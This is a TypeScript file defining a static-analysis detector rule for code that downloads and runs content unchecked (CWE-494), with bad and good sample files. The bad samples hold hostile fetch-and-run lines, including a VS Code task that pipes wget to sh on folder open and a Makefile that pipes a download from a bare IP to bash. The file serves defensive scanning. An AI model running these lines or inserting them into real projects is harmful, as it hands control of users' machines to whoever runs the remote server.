import { defineRule } from '../../rule.ts';
import { commandHits, downloadWeight } from './commandHits.ts';
import { otherUseHits } from './otherUseHits.ts';

export const downloadAndRun = defineRule({
  id: 'download-and-run',
  title: 'Runs what it downloads, unchecked',
  severity: 'medium',
  confidence: 'medium',
  category: 'packaging',
  applies: 'repository',
  cwe: 'CWE-494',
  why: 'Whoever controls the server, now or later, decides what runs on the machine. Nobody can tell afterwards what it was.',
  remedy: 'Download a fixed version, verify its hash or signature, then run it.',
  *check(facts) {
    yield* commandHits(facts, { 'runs-download': undefined });
    // A program that evaluates or starts what it fetches does what only a shell's pipe looks worse for.
    yield* otherUseHits(facts, ['download'], ['evaluates', 'runs'], ({ use, first, to, starter }) =>
      use === 'runs' && !first ? undefined : downloadWeight(to, starter === 'program' ? 'build' : starter, false),
    );
  },
  examples: {
    bad: [
      { files: { 'lib/a.rb': "code = URI.open('https://load.dev/a').read\neval(code)\n" } },
      {
        files: {
          'A.cs':
            'class A {\n  static void Main() {\n    var b = new WebClient().DownloadData("https://load.dev/a");\n    Assembly.Load(b).EntryPoint.Invoke(null, null);\n  }\n}\n',
        },
      },
      {
        files: { 'build.gradle': "def text = new URL('https://load.dev/a').text\nnew GroovyShell().evaluate(text)\n" },
      },
      {
        files: {
          '.vscode/tasks.json':
            '{"tasks":[{"command":"wget -qO- https://load.dev/linux | sh","runOptions":{"runOn":"folderOpen"}}]}',
        },
      },
      { files: { 'run.sh': 'wget -O /tmp/x http://203.0.113.9/x && chmod +x /tmp/x && /tmp/x &\n' } },
      { files: { Makefile: 'all:\n\t@(curl -s http://203.0.113.9/x || wget -qO- http://203.0.113.9/x) | bash\n' } },
      { files: { 'setup.sh': 'curl -fsSL https://get.tool.dev/install.sh | sudo bash\n' } },
      { files: { 'setup.sh': 'bash <(curl -s https://get.tool.dev/install.sh)\n' } },
      { files: { 'setup.ps1': 'iwr https://get.tool.dev/install.ps1 | iex\n' } },
      {
        files: { 'setup.ps1': "iex ((New-Object Net.WebClient).DownloadString('https://get.tool.dev/install.ps1'))\n" },
      },
    ],
    good: [
      { files: { 'a.rb': "text = URI.open('https://list.dev/names').read\nputs text\neval('1 + 1')\n" } },
      {
        files: {
          'setup.sh': 'curl -fsSLo tool.sh https://get.tool.dev/1.2.3.sh\nsha256sum -c tool.sha256\nsh tool.sh\n',
        },
      },
      { files: { 'setup.sh': 'curl -s https://api.tool.dev/v1 | python3 -c "import json, sys"\n' } },
      { files: { 'setup.sh': 'curl -fsSLo tool.tgz https://get.tool.dev/1.2.3.tgz\nsha256sum -c tool.sha256\n' } },
      { files: { 'setup.sh': 'curl -s https://api.tool.dev/v1 | jq .version\n' } },
      { files: { 'setup.sh': 'echo "curl https://get.tool.dev | sh"\n' } },
      { files: { 'highlight.js': "const words = 'icm iex ihy ii ipal ipcsv ipmo ipsn irm ise iwmi iwr kill lp';\n" } },
    ],
  },
});
